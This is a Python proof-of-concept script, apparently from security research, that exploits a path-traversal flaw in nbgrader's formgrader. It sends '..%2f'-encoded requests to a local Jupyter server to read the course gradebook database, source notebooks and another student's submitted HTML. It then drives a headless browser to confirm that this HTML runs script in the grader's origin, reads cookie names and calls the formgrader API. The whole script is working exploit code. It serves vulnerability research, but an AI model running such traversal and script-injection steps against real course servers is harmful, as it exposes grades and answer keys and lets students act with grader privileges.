"""Lead from a17: Formgrader's SubmissionFilesHandler (`/formgrader/submissions/<submission id>/<path>`) serves
autograded/<student>/<assignment>/<path> through tornado's StaticFileHandler rooted at the COURSE folder, so an
encoded `..%2f` path reaches any file of the course, submitted/ included, and unlike Jupyter's /files/ it sends no
`sandbox` CSP. Reuses a17's course (mallory's figure.html in submitted/). Needs a valid submission id in the URL."""
from lib import *
import urllib.request, secrets, socket, sqlite3
d = "/tmp/attack37-user-a17"; A = "ps1_memory"
nid = sqlite3.connect(f"{d}/gradebook.db").execute("select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id=a.id where a.student_id=(select id from student where id='mallory')").fetchone()[0]
tok = secrets.token_hex(8); port = 18938
srv = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "server",
                        f"--ServerApp.root_dir={d}", f"--IdentityProvider.token={tok}", f"--port={port}", "--no-browser",
                        "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"],
                       env=dict(ENV, PYTHONSAFEPATH="1", HOME="/tmp", DISTCOURSE_JUDGE="kernel", PYTHONPATH=CLONE), stdout=open("/tmp/a19-server.log", "w"), stderr=subprocess.STDOUT, cwd=d)
try:
    for _ in range(60):
        try: socket.create_connection(("127.0.0.1", port), 1).close(); break
        except OSError: time.sleep(0.5)
    time.sleep(2)
    for rel in (f"..%2f..%2f..%2fsubmitted%2fmallory%2f{A}%2ffigure.html", "..%2f..%2f..%2fgradebook.db", "..%2f..%2f..%2fsource%2fps1_memory%2fps1_memory.ipynb"):
        url = f"http://127.0.0.1:{port}/formgrader/submissions/{nid}/{rel}?token={tok}"
        try:
            r = urllib.request.urlopen(url)
            print("GET", rel, r.status, r.headers.get("Content-Type"), "| CSP:", r.headers.get("Content-Security-Policy"), "|", r.read()[:60])
        except Exception as e:
            print("GET", rel, "->", e)
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = b.new_page()
        page.goto(f"http://127.0.0.1:{port}/formgrader?token={tok}")
        page.goto(f"http://127.0.0.1:{port}/formgrader/submissions/{nid}/..%2f..%2f..%2fsubmitted%2fmallory%2f{A}%2ffigure.html")
        print("BROWSER url", page.url, "| script ran:", page.locator("#js").count() == 1, "| origin:", page.evaluate("self.origin"),
              "| cookie names:", page.evaluate("document.cookie.split(';').map(c => c.split('=')[0].trim())"),
              "| formgrader API:", page.evaluate("fetch('/formgrader/api/students', {credentials: 'include'}).then(r => r.status + ' ' + r.statusText)"))
        b.close()
finally:
    srv.terminate(); srv.wait(10)
